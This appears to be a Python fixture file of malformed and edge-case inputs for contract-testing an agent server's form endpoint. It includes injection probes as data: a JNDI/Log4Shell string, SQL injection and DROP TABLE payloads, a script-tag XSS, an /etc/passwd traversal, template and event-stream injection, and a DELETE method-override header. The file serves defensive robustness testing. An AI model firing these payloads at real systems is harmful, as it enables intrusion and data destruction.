"""What a careless server stumbles over: texts, bodies, headers, paths."""

from __future__ import annotations

from urllib.parse import quote, urlencode

from agentos_contract.document import FORM
from contract_tests.checks.error import MALFORMED
from contract_tests.forms.texts import TRICKY

TEXTS = (
    "0",
    " ",
    "null",
    "true",
    "None",
    "{}",
    "[]",
    '"',
    "\\",
    "\n",
    "\r\n",
    "\t",
    "\0",
    "a\0b",
    "%00",
    "%",
    "+",
    "&stream=false",
    "data: x\n\nevent: WorkflowCompleted\ndata: {}\n\n",  # would be an event of its own
    "\u2028",
    "\u0085",
    "\ufeff",
    "\ufffd",
    "\uffff",
    "\u202e",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "e\u0301",
    "\x1b[31m",
    "\x7f",
    "{{ 7*7 }}",
    "{% raw %}",
    "${jndi:ldap://x.invalid/a}",
    "' OR '1'='1",
    "'; DROP TABLE agno_sessions; --",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "9223372036854775808",
    "1e400",
    "NaN",
    '{"a": ' * 60 + "1" + "}" * 60,
    "false",
    "undefined",
    "Infinity",
    "-0",
    "1.0",
    "no",
    "[object Object]",
    '"\\ud83d"',  # half a character, as JSON writes it
    "\u200b",
    "a\u200bb",
    "\u00ad",
    "\u2060",
    "\U000e0041",
    "".join(map(chr, range(1, 32))),
    TRICKY,
)
"""Messages, ids and values of fields. All of them can be encoded."""

SCRIPTS = {
    "Arabic": "\u0621-\u063a\u0641-\u064a",
    "Hebrew": "\u05d0-\u05ea",
    "Cyrillic": "\u0410-\u044f",
    "Greek": "\u0391-\u03a1\u03b1-\u03c9",
    "Devanagari": "\u0905-\u0939",
    "Thai": "\u0e01-\u0e30",
    "Chinese": "\u4e00-\u4fff",
    "Japanese": "\u3041-\u3096\u30a1-\u30fa",
    "Korean": "\uac00-\uacff",
    "Georgian": "\u10d0-\u10f0",
    "Ethiopic": "\u1200-\u1248",
    "invisible": "\u200b-\u200f\u2060-\u2064",
    "control": "\x01-\x1f\x7f-\x9f",
    "emoji": "\U0001f600-\U0001f64f",
}
"""Scripts that texts are wholly of, as a pattern's character class has them."""

UNITS = ("a", "é", "\u0633", "\u200b", "\x01", "\U0001f600", "\n", '"', "word ")
"""What long texts are made of."""

FIELDS = (
    "Message",
    "message ",
    "message[]",
    "messages",
    "user",
    "__proto__",
    "",
    "é",
)
"""Names that the form does not have, in no version: later ones have `background`."""

VALUES = {
    "stream": ("true", "false", "True", "1", "", "maybe", "null", "truefalse", "\0"),
    "version": ("null", "", "1.5", "abc", "NaN", "1e3", "99999999999999999999999", "-"),
    "session_id": ("", "null"),
    "user_id": ("", "null", "\0", "a" * 5000),
}
"""Values of single fields; a session's name gets a name of ours in front where it has any."""

CONTENT_TYPES = (
    None,
    "",
    f"{FORM}; charset=utf-8",
    f"{FORM}; charset=no-such-charset",
    f"{FORM};",
    f"{FORM} ; Charset=UTF-8",
    f'{FORM};charset="utf-8"',
    f"{FORM}, text/plain",
    "Multipart/Form-Data; Boundary=x",
    FORM.upper(),
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=x",
    "application/json",
    "text/plain",
    "*/*",
    "nonsense",
)

BODIES = (
    *(content for content, _, _ in MALFORMED),
    b"",
    b"=",
    b"&",
    b"message",
    b"message=" + b"%" * 50,
    b"message=%c3%28&stream=false",
    b"message=%ED%A0%80&stream=false",  # half a character
    b"message=%F4%90%80%80&stream=false",  # beyond Unicode
    b"message=%C0%80&stream=false",  # a NUL, written too long
    b"message=\xff\xfe&stream=false",
    b"message=x;stream=false",
    b"message=x&" * 200,
    b"x=1&" * 3000,
    b"--x\r\n" + b'content-disposition: form-data; name="message"\r\n\r\nhello\r\n--x--\r\n',
    b"--x\r\n" + b'content-disposition: form-data; name="message"\r\n\r\nhello',
    b'--x\r\ncontent-disposition: form-data; name="message"; filename="f"\r\n\r\n\xff\r\n--x--',
    b"[" * 3000,
)

HEADERS = (
    ("accept", "text/html"),
    ("accept", "*/*;q=0"),
    ("cookie", 'a="; b'),
    ("origin", "null"),
    ("user-agent", ""),
    ("range", "bytes=0-0"),
    ("if-none-match", "*"),
    ("expect", "nonsense"),
    ("x-forwarded-for", "'"),
    ("x-http-method-override", "DELETE"),
    ("content-encoding", "gzip"),
    ("x-long", "a" * 6000),
)

SEGMENTS = (
    "..",
    "%00",
    "%2e%2e%2f",
    "%ff",
    "a" * 3000,
    "*",
    "'",
    "%F0%9F%98%80",
    "-1",
)
"""Ids of workflows that no server has, percent-encoded."""


def multipart(fields: list[tuple[str, str]]) -> tuple[bytes, str]:
    """Fields as multipart/form-data: the body, and its content type."""
    parts = [
        f"--contract-tests\r\nContent-Disposition: form-data; "
        f'name="{quote(name, safe=" ")}"\r\n\r\n{value}\r\n'
        for name, value in fields
    ]
    body = "".join(parts) + "--contract-tests--\r\n"
    return body.encode(), "multipart/form-data; boundary=contract-tests"


def encoded(fields: list[tuple[str, str]], charset: str = "utf-8") -> bytes:
    """Fields as a form, their texts in a charset."""
    return urlencode(fields, encoding=charset, errors="replace").encode("ascii")


ACCEPTS: tuple[tuple[tuple[str, str], ...], ...] = (
    (),
    (),
    (),
    (("accept", "*/*"),),
    (("accept", "text/event-stream"),),
    (("accept", "application/json"),),
    (("accept", "TEXT/EVENT-STREAM, application/json;q=0.5"),),
    (("accept", "application/*, text/*;q=0.1"),),
)
"""What else a valid form may be sent with: who has but one format for each mode answers in it."""
